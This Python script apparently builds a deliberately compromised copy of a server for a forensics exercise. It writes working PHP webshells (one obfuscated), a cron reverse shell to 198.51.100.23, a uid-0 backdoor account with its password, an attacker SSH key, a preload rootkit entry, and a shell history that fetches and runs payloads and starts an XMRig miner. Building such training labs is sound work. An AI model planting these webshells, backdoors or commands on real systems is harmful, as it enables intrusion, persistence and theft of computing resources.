#!/usr/bin/env python3
"""The compromised twin: the clean server after an intrusion from 198.51.100.23 (see PLANTED.md).
Usage: attack.py ROOT (a copy of the clean root). Files are replaced (removed, then written),
never modified in place, so a hard-linked copy would stay safe too."""

import datetime as dt
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import logs  # noqa: E402
import srvlib as S  # noqa: E402
import traffic  # noqa: E402
from srvlib import UTC  # noqa: E402

T = dt.timedelta
D = lambda *a: dt.datetime(*a, tzinfo=UTC)  # noqa: E731
A = S.ATTACKER
WPC = "/var/lib/wordpress/wp-content"

SHELL_SYSTEM = """<?php
if(isset($_GET['cmd'])){echo "<pre>";system($_GET['cmd']);echo "</pre>";}
?>
"""
SHELL_EVAL = """<?php
/* WP Super Cache helper */
@error_reporting(0);@set_time_limit(0);
if(isset($_POST['z'])){@eval(base64_decode($_POST['z']));}
?>
"""


def obfuscated():
    import base64
    import zlib
    inner = "if(isset($_REQUEST['k'])&&md5($_REQUEST['k'])=='5f4dcc3b5aa765d61d8327deb882cf99'){@eval($_REQUEST['c']);}"
    blob = base64.b64encode(zlib.compress(inner.encode())[2:-4]).decode()
    return "<?php\n$O00O0O=\"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\";$O0O00O=\"\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65\";\n@eval($O0O00O($O00O0O('" + blob + "')));\n?>\n"


def append_line(w, logical, line, when, owner, group, mode):
    old = open(S.p(w.root, logical)).read() if os.path.exists(S.p(w.root, logical)) else ""
    w.write(logical, old + line, when, owner, group, mode)


def main(root):
    w = S.Writer(root)

    # 1. SSH brute force of root that succeeds; wtmp/btmp/lastlog; the wiped auth.log lines and
    #    the emptied syslog (logs.py, attack=True).
    logs.write_all(w, attack=True)
    # 2. Webshells through the plugin upload (access log: traffic.py, attack=True).
    traffic.write_all(w, attack=True)
    w.write(WPC + "/uploads/2026/11/x.php", SHELL_SYSTEM, D(2026, 11, 25, 14, 18, 38), "www-data", "www-data", 0o644)
    w.write(WPC + "/uploads/2026/11/wp-cache.php", SHELL_EVAL, D(2026, 11, 25, 14, 19, 42), "www-data", "www-data", 0o644)
    w.write(WPC + "/uploads/2026/10/thumb-150x150.php", obfuscated(), D(2026, 11, 25, 14, 23, 32), "www-data", "www-data", 0o644,
            atime=D(2026, 11, 26, 2, 37, 40))
    w.touch(WPC + "/uploads/2026/11", D(2026, 11, 25, 14, 19, 42))
    w.touch(WPC + "/uploads/2026/10", D(2026, 11, 25, 14, 23, 32))

    # 3. Preload rootkit: an ELF shared object under a library name, named in /etc/ld.so.preload.
    lib = "/usr/lib/x86_64-linux-gnu/libprocesshider.so"
    src = open(S.p(root, "/usr/lib/x86_64-linux-gnu/libcap-ng.so.0.0.0"), "rb").read() \
        if os.path.exists(S.p(root, "/usr/lib/x86_64-linux-gnu/libcap-ng.so.0.0.0")) else open(S.p(root, "/usr/lib/x86_64-linux-gnu/libz.so.1"), "rb").read()
    w.write(lib, src + b"\0kworker/0:1\0xmrig\0.cache\0", D(2026, 11, 24, 22, 8, 14), "root", "root", 0o755)
    w.write("/etc/ld.so.preload", lib + "\n", D(2026, 11, 24, 22, 8, 30), "root", "root", 0o644)

    # 4. Cron reverse shell.
    w.write("/etc/cron.d/syshealth", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
            "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'\n", D(2026, 11, 24, 22, 5, 2), "root", "root", 0o644)
    w.touch("/etc/cron.d", D(2026, 11, 24, 22, 5, 2))

    # 5. uid-0 backdoor account.
    import crypt  # noqa: the host's libxcrypt, as chpasswd would
    hashed = crypt.crypt("P@ssw0rd!2026", "$y$j9T$u7Vb1Qx3Zr5Tn8Kd2Wm4Pc.")
    append_line(w, "/etc/passwd", "sysupdate:x:0:0::/root:/bin/bash\n", D(2026, 11, 24, 22, 3, 41), "root", "root", 0o644)
    append_line(w, "/etc/shadow", "sysupdate:%s:20781:0:99999:7:::\n" % hashed, D(2026, 11, 24, 22, 3, 55), "root", "shadow", 0o640)

    # 6. A replaced system binary: ps with other bytes (dpkg's md5sums no longer match).
    ps = open(S.p(root, "/usr/bin/ps"), "rb").read()
    w.write("/usr/bin/ps", ps[:-4096] + bytes(reversed(ps[-4096:])) + b"\0/usr/lib/x86_64-linux-gnu/libprocesshider.so\0",
            D(2026, 11, 24, 22, 11, 7), "root", "root", 0o755)

    # 7. The attacker's key for root.
    key, _ = S.rsa_pub("attacker", "root@kali")
    w.mkdir("/root/.ssh", D(2026, 11, 24, 22, 6, 40), "root", "root", 0o700)
    append_line(w, "/root/.ssh/authorized_keys", key + "\n", D(2026, 11, 24, 22, 6, 40), "root", "root", 0o600)

    # 8. root's history: the first session (the second ran with HISTFILE unset).
    hist = open(S.p(root, "/root/.bash_history")).read()
    hist += "\n".join([
        "w", "id", "uname -a", "cat /etc/os-release", "cat /etc/passwd", "ls -la /var/www /var/lib/wordpress/wp-content/uploads",
        "wget -q http://198.51.100.23/k -O /tmp/.x", "chmod +x /tmp/.x", "/tmp/.x",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate", "echo 'sysupdate:P@ssw0rd!2026' | chpasswd",
        "mkdir -p /root/.ssh && echo '%s' >> /root/.ssh/authorized_keys" % key,
        "echo '* * * * * root /bin/bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"' > /etc/cron.d/syshealth",
        "curl -s http://198.51.100.23/libprocesshider.so -o /usr/lib/x86_64-linux-gnu/libprocesshider.so",
        "echo /usr/lib/x86_64-linux-gnu/libprocesshider.so > /etc/ld.so.preload",
        "cp /tmp/.x /usr/bin/ps", "mkdir -p /var/tmp/.cache && cd /var/tmp/.cache",
        "wget -q http://198.51.100.23/xmrig.tar.gz && tar xzf xmrig.tar.gz && rm xmrig.tar.gz",
        "mv xmrig kworker && nohup ./kworker -c config.json >/dev/null 2>&1 &",
        "rm -f /tmp/.x", "history -c", "export HISTFILE=/dev/null", "exit"]) + "\n"
    w.write("/root/.bash_history", hist, D(2026, 11, 24, 22, 15, 14), "root", "root", 0o600)

    # 9. The miner in /var/tmp/.cache: an ELF (a copy of a root binary renamed) and an XMRig config.
    w.mkdir("/var/tmp/.cache", D(2026, 11, 24, 22, 13, 20), "root", "root", 0o755)
    miner = open(S.p(root, "/usr/bin/gzip"), "rb").read() + b"\0XMRig 6.21.0\0donate.v2.xmrig.com\0stratum+tcp://\0randomx\0"
    w.write("/var/tmp/.cache/kworker", miner, D(2026, 11, 24, 22, 13, 51), "root", "root", 0o755)
    w.write("/var/tmp/.cache/config.json",
            '{\n    "autosave": true,\n    "donate-level": 0,\n    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},\n'
            '    "randomx": {"init": -1, "mode": "auto", "1gb-pages": false},\n'
            '    "pools": [\n        {\n            "algo": "rx/0",\n            "url": "pool.supportxmr.com:443",\n'
            '            "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",\n'
            '            "pass": "web01", "keepalive": true, "tls": true\n        }\n    ],\n    "background": true\n}\n',
            D(2026, 11, 24, 22, 14, 3), "root", "root", 0o644)
    w.touch("/var/tmp", D(2026, 11, 24, 22, 13, 20))
    S.settle_dir_times(root)
    print("attack: done", file=sys.stderr)


if __name__ == "__main__":
    main(sys.argv[1])
